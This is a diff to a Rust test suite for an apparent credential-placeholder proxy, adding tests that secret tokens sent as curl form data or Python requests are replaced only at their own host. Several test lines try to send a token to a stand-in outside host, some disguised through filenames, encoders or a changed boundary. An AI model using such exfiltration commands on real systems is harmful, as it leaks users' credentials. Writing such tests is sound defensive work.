@@ -12,7 +12,7 @@ use hyper_util::rt::TokioIo;
 use serde_json::Value;
 
 use crate::clients::client;
-use crate::world::{Person, REAL_GEMINI_KEY, Ran, World};
+use crate::world::{Person, REAL_GEMINI_KEY, REAL_KEY, REAL_OPENAI_KEY, Ran, World};
 use crate::{Case, case, case_with};
 
 const REASON: &str = "placeholder_misplaced";
@@ -33,9 +33,15 @@ pub fn cases() -> Vec<Case> {
     let python: &'static [&'static str] = vec![&*client("venv/bin/python").leak()].leak();
     vec![
         case_with("B16 B41 B42 a placeholder is real at its own host alone, with curl", &["curl"], curl),
+        case_with("B41 B42 a placeholder is real in its field of form data alone, with curl -F", &["curl"], form_data),
         case_with("B33 B42 a placeholder does not follow a redirect to another host", &["curl"], redirect),
         case_with("B41 B42 a placeholder is real at its own host alone, with Python requests", python, requests),
         case_with("B42 git logs in with a placeholder as its password", &["git"], git),
+        case_with(
+            "B42 the key of a preset may be a placeholder in its shape, and its model is metered",
+            &["curl"],
+            preset,
+        ),
         case("B42 a placeholder's secret that is missing stops the launch and is named", missing),
         case("B42 each run has a placeholder of its own, check and explain show where it goes", shown),
     ]
@@ -120,6 +126,42 @@ fn curl(person: Person) {
     warned(&world, &ran, 8);
 }
 
+fn form_data(person: Person) {
+    let world = world(person);
+    let script = "printenv NOTES_TOKEN\n\
+         yes \"$(printf '\\377\\r--x')\" | head -c 300000 > a.bin; printf %s \"$NOTES_TOKEN\" > key\n\
+         n() { curl -sS -F channel=general -F \"client_secret=$NOTES_TOKEN\" \"$@\" https://notes.example/echo; echo; }\n\
+         n\n\
+         n -F 'client_secret=<key;type=text/plain'\n\
+         n --http1.1 -F 'f=@a.bin;filename=\"a b.bin\"' | tail -c 1 | tr -d '\\n'\n\
+         n --http1.1 -H 'transfer-encoding: chunked' -F f=@a.bin | tail -c 1 | tr -d '\\n'\n\
+         w() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' \"$@\"; }\n\
+         w -F note=x -F \"note=$NOTES_TOKEN\" https://notes.example/echo\n\
+         w -F client_secret=@key https://notes.example/echo\n\
+         w -F \"client_secret=x;filename=$NOTES_TOKEN\" https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN;encoder=base64\" https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN\" -H 'content-type: multipart/form-data; boundary=other' https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN\" https://a.wild.example/echo";
+    let ran = world.sh(script).expect_code(0);
+    let fake = placeholder(&ran);
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert!(lines[1].contains(&fake) && lines[2].contains(&fake), "{}", ran.stdout);
+    assert_eq!(lines[lines.len() - 6..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
+    let received: Vec<_> = world.provider.received().into_iter().filter(|r| r.path == "/echo").collect();
+    let places = |body: &[u8], text: &[u8]| body.windows(text.len()).filter(|window| *window == text).count();
+    let field = |more: &str| format!("name=\"client_secret\"\r\n{more}\r\n{REAL_GEMINI_KEY}\r\n--");
+    let file: Vec<u8> = b"\xff\r--x\n".iter().copied().cycle().take(300_000).collect();
+    let file = [&b"octet-stream\r\n\r\n"[..], &file, b"\r\n--"].concat();
+    let counts = received.iter().map(|one| {
+        assert_eq!(one.header("content-length"), Some(one.body.len().to_string().as_str()));
+        let typed = places(&one.body, field("Content-Type: text/plain\r\n").as_bytes());
+        [places(&one.body, field("").as_bytes()), typed, places(&one.body, &file)]
+    });
+    assert_eq!(counts.collect::<Vec<_>>(), [[1, 0, 0], [1, 1, 0], [1, 0, 1], [1, 0, 1]]);
+    only_at_home(&world, &ran, 4);
+    warned(&world, &ran, 6);
+}
+
 fn redirect(person: Person) {
     let world = world(person);
     let script = "printenv NOTES_TOKEN\n\
@@ -139,7 +181,8 @@ fn requests(person: Person) {
          print(key)\n\
          home, other = 'https://notes.example/echo', 'https://a.wild.example/echo'\n\
          for more in [dict(headers={'Authorization': 'Bearer ' + key}), dict(params={'key': key}), dict(auth=('me', key)),\n\
-         \x20            dict(data={'client_secret': key}), dict(json={'client_secret': key})]:\n\
+         \x20            dict(data={'client_secret': key}), dict(json={'client_secret': key}),\n\
+         \x20            dict(data={'client_secret': key}, files={'f': ('a.bin', b'\\x00\\r\\n--')})]:\n\
          \x20   there = requests.post(home, **more)\n\
          \x20   there.raise_for_status()\n\
          \x20   shown = requests.Request('POST', home, **more).prepare()\n\
@@ -151,9 +194,9 @@ fn requests(person: Person) {
          \x20   print(away.status_code, away.headers.get('x-carboy-reason'))\n";
     let ran = world.run(&[&client("venv/bin/python"), "-c", program]).expect_code(0);
     let lines: Vec<&str> = ran.stdout.lines().collect();
-    assert_eq!(lines[1..], vec![format!("403 {REASON}"); 5], "{}", ran.stderr);
-    only_at_home(&world, &ran, 5);
-    warned(&world, &ran, 5);
+    assert_eq!(lines[1..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
+    only_at_home(&world, &ran, 6);
+    warned(&world, &ran, 6);
 }
 
 /// A server that asks for a password as git hosts do, and keeps what it was given.
@@ -216,6 +259,32 @@ fn git(person: Person) {
     assert_eq!(lines[1..], ["none", "read 0", "refused"], "{}", ran.stderr);
     assert_eq!(*given.lock().unwrap(), [format!("x-access-token:{REAL_GEMINI_KEY}")]);
     assert!(!world.provider.received().iter().any(|r| r.header("authorization").is_some()));
+}
+
+fn preset(person: Person) {
+    let world = World::new(person);
+    world.bottle(
+        "presets:\n  - {anthropic: {credential: {from: ANTHROPIC_API_KEY}}}\n  - {openai: {credential: {from: OPENAI_API_KEY, env: MY_KEY}}}\n",
+    );
+    let script = "printenv ANTHROPIC_API_KEY; printenv MY_KEY; test -z \"$OPENAI_API_KEY\" && echo none\n\
+         n() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' -H 'content-type: application/json' \"$@\"; }\n\
+         m='\"max_tokens\": 9, \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]'\n\
+         claude() { n -H 'anthropic-version: 2023-06-01' \"$@\" -d \"{\\\"model\\\": \\\"claude-sonnet-4-5\\\", $m}\" https://api.anthropic.com/v1/messages; }\n\
+         claude -H \"x-api-key: $ANTHROPIC_API_KEY\"\n\
+         n -H \"authorization: Bearer $MY_KEY\" -d \"{\\\"model\\\": \\\"gpt-4o-mini\\\", $m}\" https://api.openai.com/v1/chat/completions\n\
+         claude -H \"x-api-key: $MY_KEY\"; claude -H \"x-other: $ANTHROPIC_API_KEY\"";
+    let ran = world.sh(script).expect_code(0);
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    for (line, real) in lines.iter().zip([REAL_KEY, REAL_OPENAI_KEY]) {
+        let prefix = if real == REAL_KEY { "sk-ant-" } else { "sk-" };
+        assert!(line.starts_with(prefix) && line.len() == real.len() && *line != real, "{line} {real}");
+    }
+    // As that provider says that it will not take a request.
+    let refused = format!("400 {REASON}");
+    assert_eq!(lines[2..], ["none", "200 ", "200 ", &refused, &refused], "{}", ran.stderr);
+    let charged = ran.entries.iter().filter(|entry| entry.detail("charged").is_some());
+    assert_eq!(charged.count(), 2, "{:#?}", ran.entries);
+    assert!(!format!("{} {} {:?}", ran.stdout, ran.stderr, ran.entries).contains(REAL_KEY));
 }
 
 fn missing(person: Person) {
